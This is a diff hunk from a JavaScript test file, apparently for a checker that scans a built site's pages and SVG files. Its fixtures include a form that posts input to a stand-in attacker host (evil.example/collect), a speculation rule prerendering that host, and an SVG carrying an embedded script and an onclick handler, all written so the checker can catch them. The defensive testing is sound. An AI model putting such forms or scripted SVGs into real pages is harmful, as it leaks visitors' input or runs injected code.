@@ -156,7 +156,7 @@ describe('check-dist: refreshes, rel lists, speculation rules, forms and SVG fil
   page('rels/index.html', '', `${head}<link rel="alternate" hreflang="en" href="https://taiyaku.example/en/"><link rel="alternate stylesheet" href="https://cdn.example/alt.css"><link rel="canonical preload" as="script" href="https://cdn.example/c.js">`);
   page('speculation/index.html', '<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://evil.example/"]}]}</script>', head);
   page('form/index.html', '<form action="https://evil.example/collect"><input name="q"><button formaction="//evil.example/b">x</button></form>', head);
-  page('reader/index.html', '<div title="not data-anchor" id="fake"></div>', `<!-- <title>hidden</title> -->${head}`);
+  page('reader/index.html', '<div title="not data-anchor here" id="fake"></div>', `<!-- <title>hidden</title> -->${head}`);
   file('favicon.svg', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><rect width="32" height="32" fill="#8a2f1c"/><text x="16" y="22">対</text></svg>');
   file('evil.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(1)</script><rect onclick="x()"/><image xlink:href="https://cdn.example/x.png"/><a href="/gone/"><text>x</text></a></svg>');
 
